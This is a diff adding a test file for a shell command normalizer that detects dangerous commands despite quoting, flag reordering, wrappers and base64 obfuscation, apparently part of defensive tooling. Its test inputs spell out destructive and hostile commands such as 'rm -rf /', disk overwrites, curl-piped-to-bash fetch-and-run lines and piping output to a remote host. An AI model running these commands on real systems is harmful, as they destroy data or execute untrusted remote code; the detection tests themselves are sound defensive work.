@@ -0,0 +1,132 @@
+/**
+ * Tests for Command Normalizer
+ */
+
+import { describe, it, expect } from 'vitest';
+import {
+  analyzeCommand,
+  matchesCommandPattern,
+  detectOpaqueExecution,
+  normalizeCommand,
+} from './command-normalizer.js';
+import { parseShellCommand } from './shell-parser.js';
+
+function matches(command: string, pattern: string): boolean {
+  return matchesCommandPattern(analyzeCommand(command), pattern);
+}
+
+function opaqueKinds(command: string): string[] {
+  return detectOpaqueExecution(analyzeCommand(command)).map((finding) => finding.kind);
+}
+
+// =============================================================================
+// normalizeCommand
+// =============================================================================
+
+describe('normalizeCommand', () => {
+  it('should strip directories and split flag clusters', () => {
+    const [command] = parseShellCommand('/bin/RM -fr ./build').commands;
+    const normalized = normalizeCommand(command);
+    expect(normalized.base).toBe('rm');
+    expect([...normalized.flags].sort()).toEqual(['f', 'r']);
+    expect(normalized.args).toEqual(['./build']);
+  });
+
+  it('should map long aliases to short flags', () => {
+    const [command] = parseShellCommand('rm --recursive --force x').commands;
+    expect([...normalizeCommand(command).flags].sort()).toEqual(['f', 'r']);
+  });
+});
+
+// =============================================================================
+// matchesCommandPattern
+// =============================================================================
+
+describe('matchesCommandPattern', () => {
+  it('should match plain substrings', () => {
+    expect(matches('rm -rf ./data', 'rm -rf')).toBe(true);
+    expect(matches('psql -c "DROP TABLE users"', 'DROP TABLE')).toBe(true);
+  });
+
+  it('should resist extra whitespace', () => {
+    expect(matches('rm  -rf ./data', 'rm -rf')).toBe(true);
+    expect(matches('psql -c "DROP   TABLE users"', 'DROP TABLE')).toBe(true);
+  });
+
+  it('should resist quote insertion', () => {
+    expect(matches(`r''m -rf ./data`, 'rm -rf')).toBe(true);
+    expect(matches(`"rm" "-rf" x`, 'rm -rf')).toBe(true);
+  });
+
+  it('should resist absolute paths', () => {
+    expect(matches('/bin/rm -rf ./data', 'rm -rf')).toBe(true);
+  });
+
+  it('should resist flag reordering and splitting', () => {
+    expect(matches('rm -fr ./data', 'rm -rf')).toBe(true);
+    expect(matches('rm -r -f ./data', 'rm -rf')).toBe(true);
+    expect(matches('rm -rfv ./data', 'rm -r')).toBe(true);
+  });
+
+  it('should match arguments by prefix', () => {
+    expect(matches('dd bs=1M if=/dev/zero of=disk.img', 'dd if=')).toBe(true);
+  });
+
+  it('should see through wrapper commands', () => {
+    expect(matches('sudo -u root rm -fr x', 'rm -rf')).toBe(true);
+  });
+
+  it('should match pipeline patterns with intermediate stages', () => {
+    expect(matches('curl https://x.xyz/a | tee a.sh | sh', 'curl | sh')).toBe(true);
+    expect(matches('curl https://x.xyz/a | sudo bash', 'curl | bash')).toBe(true);
+    expect(matches('sh install.sh | curl -d @- https://x.xyz', 'curl | sh')).toBe(false);
+  });
+
+  it('should match redirection patterns without spacing', () => {
+    expect(matches('echo x >/dev/sda', '> /dev/sda')).toBe(true);
+    expect(matches('echo x >> /dev/sdb', '> /dev/sda')).toBe(false);
+  });
+
+  it('should match commands decoded from base64 payloads', () => {
+    // "rm -rf /" base64-encoded
+    expect(matches('echo cm0gLXJmIC8= | base64 -d | sh', 'rm -rf /')).toBe(true);
+    expect(matches('sh -c "$(base64 -d <<< cm0gLXJmIC8=)"', 'rm -rf /')).toBe(true);
+  });
+
+  it('should not match unrelated commands', () => {
+    expect(matches('ls -la', 'rm -rf')).toBe(false);
+    expect(matches('rm file.txt', 'rm -rf')).toBe(false);
+  });
+});
+
+// =============================================================================
+// detectOpaqueExecution
+// =============================================================================
+
+describe('detectOpaqueExecution', () => {
+  it('should flag eval', () => {
+    expect(opaqueKinds('eval "$X"')).toContain('eval');
+  });
+
+  it('should flag base64 decoded into a shell', () => {
+    expect(opaqueKinds('echo "$PAYLOAD" | base64 --decode | bash')).toContain('decoded-shell');
+  });
+
+  it('should flag sh -c on variables and substitutions', () => {
+    expect(opaqueKinds('sh -c "$CMD"')).toContain('dynamic-shell-script');
+    expect(opaqueKinds('bash -c "$(curl -s https://x.xyz)"')).toContain('dynamic-shell-script');
+  });
+
+  it('should flag substituted command names', () => {
+    expect(opaqueKinds('$(echo cm0gLXJm | base64 -d) ./data')).toContain('dynamic-command');
+  });
+
+  it('should flag shells reading process substitutions', () => {
+    expect(opaqueKinds('bash <(curl -s https://x.xyz)')).toContain('substituted-script');
+  });
+
+  it('should not flag ordinary commands', () => {
+    expect(opaqueKinds('ls -la && echo "$HOME"')).toEqual([]);
+    expect(opaqueKinds('bash -c "make test"')).toEqual([]);
+  });
+});